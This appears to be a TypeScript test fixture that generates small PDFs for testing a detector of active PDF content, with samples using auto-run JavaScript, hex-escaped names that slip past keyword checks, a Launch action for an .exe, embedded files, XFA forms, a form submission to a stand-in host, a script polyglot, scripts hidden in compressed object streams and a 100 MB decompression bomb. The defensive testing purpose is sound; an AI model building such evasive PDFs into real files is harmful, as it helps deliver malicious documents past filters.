import { deflateSync } from 'node:zlib';

/** A small PDF of one page, with something more in its catalogue. */
export function pdf(inCatalogue: string, more = ''): Buffer {
  return Buffer.from(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${inCatalogue} >>\nendobj\n` +
      `2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${more}` +
      `trailer\n<< /Root 1 0 R /Size 3 >>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  );
}

/** A PDF with objects packed into a stream, as every newer program writes it. */
export function pdfWithObjects(objects: string | Buffer): Buffer {
  const packed = deflateSync(objects);
  const [head = '', tail = ''] = pdf('', '\0HERE\0').toString('latin1').split('\0HERE\0');
  return Buffer.concat([
    Buffer.from(head, 'latin1'),
    Buffer.from(
      `5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    Buffer.from(`\nendstream\nendobj\n${tail}`, 'latin1'),
  ]);
}

/** PDFs that act by themselves or carry other files, each in another way. */
export const ACTIVE_PDFS = (mark: string): [name: string, bytes: Buffer][] => [
  ['a PDF with a script', pdf(`/OpenAction << /S /JavaScript /JS (app.alert("${mark}")) >>`)],
  ['a PDF with a script under escaped names', pdf(`/OpenAction << /S /J#61vaScript /#4a#53 (${mark}) >>`)],
  ['a PDF that starts a program', pdf(`/OpenAction << /S /Launch /F (${mark}.exe) >>`)],
  ['a PDF with a file in it', pdf(`/Names << /EmbeddedFiles << /Names [(${mark}) 7 0 R] >> >>`)],
  ['a PDF with a form that is a program', pdf(`/AcroForm << /XFA [(${mark}) 8 0 R] >>`)],
  ['a PDF that sends itself away', pdf(`/OpenAction << /S /SubmitForm /F (http://x.invalid/${mark}) >>`)],
  ['a PDF that is a script too', Buffer.concat([pdf(`/AA << /O << /JS (1) >> >>`), Buffer.from(`\n/* ${mark} */ %%EOF`)])],
  ['a PDF with a script in packed objects', pdfWithObjects(`<< /S /JavaScript /JS (${mark}) >>`)],
  ['a PDF whose packed objects are 100 MB', pdfWithObjects(Buffer.alloc(100 * 1024 * 1024))],
]; // prettier-ignore
